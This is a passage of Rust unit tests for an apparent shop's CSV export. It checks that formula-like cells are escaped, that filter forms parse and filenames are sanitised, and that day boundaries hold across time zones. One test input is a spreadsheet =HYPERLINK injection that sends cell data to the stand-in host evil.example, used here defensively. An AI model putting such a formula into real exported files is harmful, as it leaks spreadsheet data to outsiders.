        assert_eq!(line(&["=1+1"]), "'=1+1\r\n");
        assert_eq!(line(&["+31 6 1234"]), "'+31 6 1234\r\n");
        assert_eq!(line(&["-2"]), "'-2\r\n");
        assert_eq!(line(&["@SUM(A1)"]), "'@SUM(A1)\r\n");
        assert_eq!(line(&["\tx"]), "'\tx\r\n");
        assert_eq!(line(&["\rx"]), "\"'\rx\"\r\n");
        assert_eq!(line(&["  =1"]), "'  =1\r\n");
        assert_eq!(
            line(&["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click, here\")"]),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click, here\"\")\"\r\n"
        );
        // what Holdfast writes itself is left alone
        for plain in [
            "TKT-ABCD-EFGH",
            "2026-12-01 19:02:03+01:00",
            "€35.00",
            "0",
            "a-b",
        ] {
            assert_eq!(line(&[plain]), format!("{plain}\r\n"));
        }
    }

    fn form(pairs: &[(&str, &str)]) -> FilterForm {
        let mut form = FilterForm::default();
        for (name, value) in pairs {
            let value = Some((*value).to_owned());
            match *name {
                "product" => form.product = value,
                "collection" => form.collection = value,
                "state" => form.state = value,
                "paid_from" => form.paid_from = value,
                "paid_to" => form.paid_to = value,
                "starts_from" => form.starts_from = value,
                "starts_to" => form.starts_to = value,
                other => panic!("{other}"),
            }
        }
        form
    }

    #[test]
    fn filters_read_as_the_form_sends_them() {
        let empty = ExportFilter::parse(&form(&[("product", " "), ("state", "")])).unwrap();
        assert_eq!(empty, ExportFilter::default());
        assert_eq!(empty.words(), "everything");
        assert_eq!(empty.filename("orders"), "orders-all.csv");
        let filter = ExportFilter::parse(&form(&[
            ("collection", "harbour-lights"),
            ("state", "paid"),
            ("paid_from", "2026-12-01"),
            ("paid_to", "2026-12-31"),
            ("starts_from", "2026-12-14"),
            ("starts_to", "2026-12-14"),
        ]))
        .unwrap();
        assert_eq!(
            filter.words(),
            "collection harbour-lights, state paid, paid 2026-12-01 to 2026-12-31, starts on 2026-12-14"
        );
        assert_eq!(
            filter.filename("attendees"),
            "attendees-harbour-lights-paid-paid-2026-12-01-to-2026-12-31-starts-on-2026-12-14.csv"
        );
        assert!(filter.names_a_sale());
        let odd = ExportFilter::parse(&form(&[("product", "Zoë's \"box\"/..\r\n")])).unwrap();
        assert_eq!(odd.filename("orders"), "orders-zo-s-box.csv");
        for bad in [
            form(&[("state", "lost")]),
            form(&[("paid_from", "1 December")]),
            form(&[("starts_from", "2026-12-02"), ("starts_to", "2026-12-01")]),
        ] {
            assert!(matches!(
                ExportFilter::parse(&bad),
                Err(ExportError::InvalidInput(_))
            ));
        }
    }

    #[test]
    fn days_are_whole_days_in_the_shops_zone() {
        let berlin = ShopZone::parse("Europe/Berlin").unwrap();
        let days = Days::parse(
            &Some("2027-03-28".into()),
            &Some("2027-03-28".into()),
            "paid",
        )
        .unwrap();
        // the night the clocks spring forward: 23 hours long
        assert_eq!(
            days.start(berlin).unwrap().to_rfc3339(),
            "2027-03-27T23:00:00+00:00"
        );
        assert_eq!(
            days.end(berlin).unwrap().to_rfc3339(),
            "2027-03-28T22:00:00+00:00"
        );
        // a zone whose clocks skip midnight: the day begins at 01:00
        let santiago = ShopZone::parse("America/Santiago").unwrap();
        let skipped = NaiveDate::from_ymd_opt(2024, 9, 8).unwrap();
        assert_eq!(santiago.time(day_starts(santiago, skipped)), "01:00 -03");
        assert_eq!(
            moment(berlin, days.start(berlin)),
            "2027-03-28 00:00:00+01:00"
        );
    }
}
